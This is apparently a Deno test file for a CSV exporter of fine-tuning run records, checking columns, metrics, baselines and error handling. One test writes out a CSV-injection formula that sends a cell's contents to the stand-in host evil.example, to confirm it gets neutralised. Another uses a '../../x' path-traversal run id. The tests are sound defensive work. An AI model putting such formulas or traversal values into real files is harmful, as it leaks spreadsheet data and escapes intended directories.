import assert from "node:assert/strict";
import { csvField, recordsToCsv } from "./export_csv.ts";
import { join } from "node:path";
import type { RunRecord } from "./record.ts";
import { listTree, testRecord, writeRawJson } from "./record_testing.ts";

/** A small RFC 4180 parser (quoted fields, doubled quotes, CRLF rows), independent of the writer. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"', i++);
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") (row.push(field), field = "");
    else if (c === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      (row = [], field = "", i++);
    } else field += c;
  }
  assert.equal(field + row.join(""), "", "text must end with CRLF");
  return rows;
}

function record(runId: string, metrics: Record<string, number>, error?: string): RunRecord {
  return {
    schemaVersion: 1,
    runId,
    name: `lora q+v r8 seed0`,
    status: error ? "failed" : "success",
    error,
    config: {
      task: "classify",
      dataset: "wordnet-lex",
      model: "/m,odel.bin",
      method: "lora",
      methodOptions: { targets: "q,v,down", rank: 8, alpha: 16 },
      quant: { scheme: "nf4", doubleQuant: true },
      trainSize: null,
      trainPerClass: 8,
      seed: 2,
    },
    metrics,
    timing: { trainSeconds: 1.5, inferLatencyMs: { p50: 2 } },
    memory: { peakTrainBytes: 100, peakInferBytes: 50 },
    size: { trainableParams: 10, adapterBytes: 40, bitsPerFrozenParam: 4.5 },
    env: { startTime: "2024-01-01T00:00:00Z", backend: "wasm" },
  } as unknown as RunRecord;
}

Deno.test("csv: fields with commas, quotes and newlines round-trip through an RFC 4180 parse", () => {
  const nasty = ["plain", "a,b", 'say "hi"', "two\nlines", "cr\r\nlf", '",\n"', "", "  spaced  "];
  const line = nasty.map(csvField).join(",") + "\r\n";
  assert.deepEqual(parseCsv(line), [nasty]);
  assert.equal(csvField('say "hi"'), '"say ""hi"""');
  assert.equal(csvField(null), "");
  assert.equal(csvField(0.25), "0.25");
});

Deno.test("csv export: one row per record, one column per metric, union over records", () => {
  const csv = recordsToCsv([
    record("r1", { accuracy: 0.5, macroF1: 0.25 }),
    record("r2", { mrr: 0.75, rank: 3 }, 'loss became NaN at step 3; lower --lr, "really"\nsecond line'),
  ]);
  const [header, ...rows] = parseCsv(csv);
  assert.equal(rows.length, 2);
  const get = (row: string[], col: string) => row[header.indexOf(col)];
  for (
    const col of ["accuracy", "macroF1", "mrr", "metric_rank", "train_seconds", "peak_train_bytes", "error"]
  ) {
    assert.ok(header.includes(col), `missing column ${col}`);
  }
  assert.equal(new Set(header).size, header.length, "duplicate column names");
  assert.equal(get(rows[0], "accuracy"), "0.5");
  assert.equal(get(rows[0], "mrr"), "");
  assert.equal(get(rows[1], "metric_rank"), "3");
  assert.equal(get(rows[0], "rank"), "8");
  assert.equal(get(rows[0], "targets"), "q,v,down");
  assert.equal(get(rows[0], "model"), "/m,odel.bin");
  assert.equal(get(rows[0], "quant"), "nf4");
  assert.equal(get(rows[0], "double_quant"), "true");
  assert.equal(get(rows[0], "train_per_class"), "8");
  assert.equal(get(rows[0], "train_size"), "");
  assert.equal(get(rows[0], "bits_per_frozen_param"), "4.5");
  assert.equal(get(rows[1], "status"), "failed");
  assert.equal(get(rows[1], "error"), 'loss became NaN at step 3; lower --lr, "really"\nsecond line');
});

Deno.test("csv: formula-leading text gets an apostrophe (OWASP CSV injection); numbers stay numeric", () => {
  for (const cell of ['=HYPERLINK("http://x","y")', "+cmd", "-2+3", "@SUM(A1)", "\tx", "\r=1"]) {
    assert.ok(csvField(cell).replace(/^"/, "").startsWith("'"), `not neutralised: ${JSON.stringify(cell)}`);
  }
  assert.equal(csvField("=1+2"), "'=1+2");
  assert.equal(csvField('=HYPERLINK("a","b")'), `"'=HYPERLINK(""a"",""b"")"`);
  assert.equal(csvField("\r=1"), `"'\r=1"`);
  // Plain numbers, typed or as text, are left alone: a spreadsheet reads them as numbers.
  assert.equal(csvField(-0.5), "-0.5");
  assert.equal(csvField("-0.5"), "-0.5");
  assert.equal(csvField("+3"), "+3");
  assert.equal(csvField(-1e-7), "-1e-7");
  assert.equal(csvField("a=b"), "a=b");
  assert.equal(csvField(NaN), "");
});

Deno.test("csv export: a dataset named =HYPERLINK(...) is text in the CSV; a negative metric stays a number", () => {
  const r = testRecord("r1", (x) => {
    x.config.dataset = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
    x.name = "@SUM(1+1)";
    x.metrics = { accuracy: 0.5, delta: -0.5 };
  });
  const [header, row] = parseCsv(recordsToCsv([r]));
  const get = (col: string) => row[header.indexOf(col)];
  assert.equal(get("dataset"), `'=HYPERLINK("http://evil.example/?leak="&A1,"click")`);
  assert.equal(get("name"), "'@SUM(1+1)");
  assert.equal(get("delta"), "-0.5");
  assert.equal(get("accuracy"), "0.5");
  for (const cell of row) assert.ok(!/^[=+@\t\r]/.test(cell) && !/^-[^0-9.]/.test(cell), cell);
});

Deno.test("export-csv CLI: a record with an unsafe runId or a missing field is exit 2, one line naming the file", async () => {
  const root = await Deno.makeTempDir();
  try {
    const cli = async () => {
      const out = await new Deno.Command(Deno.execPath(), {
        args: [
          "run",
          "--allow-read",
          "--allow-write",
          "--allow-env",
          new URL("./export_csv.ts", import.meta.url).pathname,
          "--results",
          root,
          "--out",
          join(root, "out.csv"),
        ],
        stdout: "piped",
        stderr: "piped",
      }).output();
      return { code: out.code, err: new TextDecoder().decode(out.stderr) };
    };
    const evil = await writeRawJson(root, "x.json", testRecord("../../x"));
    let res = await cli();
    assert.equal(res.code, 2, res.err);
    assert.equal(res.err.trim().split("\n").length, 1, res.err);
    assert.ok(res.err.startsWith(`error: ${evil}: run id "../../x" is not a safe file name`), res.err);
    await Deno.remove(evil);
    const { config: _c, ...noConfig } = testRecord("y");
    const bad = await writeRawJson(root, "y.json", noConfig);
    res = await cli();
    assert.equal(res.code, 2, res.err);
    assert.ok(res.err.startsWith(`error: ${bad}: config: `), res.err);
    assert.doesNotMatch(res.err, /Cannot read properties/);
    assert.deepEqual(await listTree(root), ["y.json"]);
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

Deno.test("csv export: head_lr, max_length, items scored, final loss, eval seconds, per-class F1; train_size and steps filled", () => {
  const r = record("r1", { accuracy: 0.5 });
  r.config.headLr = 0.003;
  r.config.maxLength = 48;
  r.config.steps = null;
  r.timing.evalSeconds = 0.75;
  r.curve = [{ step: 0, loss: 2.5, lr: 1 }, { step: 1, loss: 2.0, lr: 1 }, { step: 2, loss: 1.25, lr: 1 }];
  r.perItem = [{ id: "a" }, { id: "b" }, { id: "c" }, { id: "d" }];
  r.details = {
    perClass: [{ label: "world", f1: 0.5, support: 2 }, { label: 'sport, "x"', f1: 0.25, support: 1 }, {
      label: "tech",
      f1: 0,
      support: 1,
    }],
  };
  const [header, row] = parseCsv(recordsToCsv([r]));
  const get = (col: string) => row[header.indexOf(col)];
  assert.equal(get("head_lr"), "0.003");
  assert.equal(get("max_length"), "48");
  assert.equal(get("items_scored"), "4");
  assert.equal(get("final_loss"), "1.25");
  assert.equal(get("eval_seconds"), "0.75");
  // 8 per class x 3 classes; steps from the loss curve (one point per update) when --steps was not set.
  assert.equal(get("train_size"), "24");
  assert.equal(get("steps"), "3");
  assert.equal(get("f1[world]"), "0.5");
  assert.equal(get('f1[sport, "x"]'), "0.25");
  assert.equal(get("f1[tech]"), "0");
});

Deno.test("csv export: trivial baselines on the primary metric and tokenizer coverage per split", () => {
  const cov = {
    texts: 10,
    tokens: 100,
    words: 50,
    chars: 400,
    unknownTokens: 1,
    byteFallbackTokens: 9,
    unknownShare: 0.01,
    byteFallbackShare: 0.09,
    tokensPerWord: 2,
    tokensPerChar: 0.25,
    truncated: 3,
    truncatedShare: 0.3,
    maxLength: 48,
  };
  const retrieval = testRecord("retrieve-a", (r) => {
    r.config.task = "retrieve";
    r.primaryMetric = "mrr";
    r.metrics = { mrr: 0.2 };
    r.perItem = [];
    r.trivial = [{ name: "bm25", metrics: { mrr: 0.28, "ndcg@10": 0.3 } }, {
      name: "random",
      metrics: { mrr: 0.026 },
    }];
    r.tokenizerCoverage = { documents: cov };
  });
  // A classification run: the majority class of its 3 test labels (2 of 3 'a') on accuracy.
  const classify = testRecord("classify-b", (r) => {
    r.primaryMetric = "accuracy";
    r.perItem = ["a", "a", "b"].map((label, i) => ({
      id: `x${i}`,
      label,
      pred: "b",
      correct: label === "b" ? 1 : 0,
    }));
  });
  const [header, ...rows] = parseCsv(recordsToCsv([retrieval, classify]));
  const col = (name: string) => {
    const i = header.indexOf(name);
    assert.ok(i >= 0, `no column ${name}`);
    return rows.map((row) => row[i]);
  };
  assert.deepEqual(col("trivial[bm25]"), ["0.28", ""]);
  assert.deepEqual(col("trivial[random]"), ["0.026", ""]);
  assert.deepEqual(col("trivial[majority]"), ["", String(2 / 3)]);
  assert.deepEqual(col("byte_fallback_share[documents]"), ["0.09", ""]);
  assert.deepEqual(col("unknown_share[documents]"), ["0.01", ""]);
  assert.deepEqual(col("tokens_per_word[documents]"), ["2", ""]);
  assert.deepEqual(col("truncated_share[documents]"), ["0.3", ""]);
});

Deno.test("csv export: forgetting_delta and forgetting_text from the record's forgetting, empty without it", () => {
  const forgot = testRecord("classify-f", (r) => {
    r.forgetting = { text: "sotu-test", tokens: 2048, nllBefore: 3.25, nllAfter: 3.3125, delta: 0.0625 };
  });
  const older = testRecord("classify-g", (r) => delete r.forgetting);
  const [header, ...rows] = parseCsv(recordsToCsv([forgot, older]));
  const col = (name: string) => rows.map((row) => row[header.indexOf(name)]);
  assert.ok(header.includes("forgetting_delta") && header.includes("forgetting_text"));
  assert.deepEqual(col("forgetting_delta"), ["0.0625", ""]);
  assert.deepEqual(col("forgetting_text"), ["sotu-test", ""]);
});
